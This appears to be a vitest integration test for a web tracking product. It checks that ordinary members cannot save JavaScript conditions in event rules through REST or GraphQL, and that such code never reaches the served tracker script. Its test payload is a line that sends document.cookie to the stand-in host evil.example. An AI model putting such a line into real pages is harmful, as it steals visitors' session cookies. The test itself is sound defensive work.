// Only owners and admins can write code for visitors' pages. Both servers reject attempts by a member with the role
// User, and nothing reaches the tracker's script.
import { beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { hostOrigin, origin } from "../walker.ts";

const EVIL = "fetch('//evil.example/?' + document.cookie)";
const json = { "content-type": "application/json" };
const Session = z.object({ jwt: z.string(), widget_id: z.number(), widget_key: z.string() });
const Rule = z.object({ event_config_id: z.number() });
const Failed = z.object({ code: z.string(), field: z.string().optional() });

describe("JavaScript condition of an event rule", () => {
  let user: z.infer<typeof Session>;
  let admin: z.infer<typeof Session>;

  const post = (path: string, jwt: string, body: object) =>
    fetch(`${hostOrigin()}${path}`, { method: "POST", headers: { ...json, jwt }, body: JSON.stringify(body) });
  const signIn = async (role: string) => {
    const response = await post("/authenticate", "", { email: `${role}@demo.test`, password: "sightline" });
    return Session.parse(await response.json());
  };
  const graph = async (jwt: string, query: string, variables: object) => {
    const response = await fetch(`${origin()}/graphql`, {
      method: "POST",
      headers: { ...json, authorization: `Bearer ${jwt}` },
      body: JSON.stringify({ query, variables }),
    });
    return (await response.json()) as { data?: Record<string, { problem: unknown }> };
  };
  const script = async () => (await fetch(`${hostOrigin()}/js/track.js?key=${user.widget_key}`)).text();
  const rule = (more: object) => ({ widget_id: user.widget_id, event_name: "attack", url: "", ...more });
  const condition = { action_type: 8, path_name: EVIL };

  beforeAll(async () => {
    [user, admin] = [await signIn("user"), await signIn("admin")];
  });

  const refused = async (response: Response) => {
    expect(response.status).toBe(403);
    expect(Failed.parse(await response.json()).code).toBe("ROLE");
  };

  it("is refused by the host in a new rule, in an update and in the preview URL of a page", async () => {
    await refused(await post("/event-config/create", user.jwt, rule(condition)));
    await refused(await post("/event-config/check", user.jwt, { ...rule(condition), page: `${hostOrigin()}/demo/` }));
    const click = Rule.parse(
      await (await post("/event-config/create", user.jwt, rule({ action_type: 1, path_name: ".a" }))).json(),
    );
    await refused(await post("/event-config/update", user.jwt, { ...click, ...condition }));
    await post("/event-config/delete", user.jwt, click);
    expect(await script()).not.toContain("evil.example");
  });

  it("is refused by the gateway to a tool with the member's permissions", async () => {
    const input = { project: String(user.widget_id), eventName: "attack", trigger: "CONDITION", target: EVIL };
    const create = `mutation ($input: CreateEventRuleInput!) {
      createEventRule(input: $input) { problem { code field } } }`;
    const { data } = await graph(user.jwt, create, { input });
    expect(data?.["createEventRule"]?.problem).toEqual({ code: "FORBIDDEN", field: "target" });
    expect(await script()).not.toContain("evil.example");
  });

  it("stays unchanged when written by an admin, and can be paused but not resumed by the role User", async () => {
    const own = { action_type: 8, path_name: "document.hidden === 'never'" };
    const made = Rule.parse(await (await post("/event-config/create", admin.jwt, rule(own))).json());
    const { event_config_id } = made;
    const update = (change: object, jwt = user.jwt) =>
      post("/event-config/update", jwt, { event_config_id, ...change });
    await refused(await update({ path_name: EVIL }));
    expect((await update({ event_name: "renamed" })).status).toBe(200);
    expect((await update({ status: "paused" })).status).toBe(200);
    await refused(await update({ status: "active" }));
    expect((await update({ status: "active" }, admin.jwt)).status).toBe(200);
    const log = await post("/auditlog/find", admin.jwt, {
      module: "events",
      action_id: String(event_config_id),
      limit: 9,
    });
    expect(await log.text()).toContain("event_rule_created");
    await post("/event-config/delete", admin.jwt, made);
  });
});
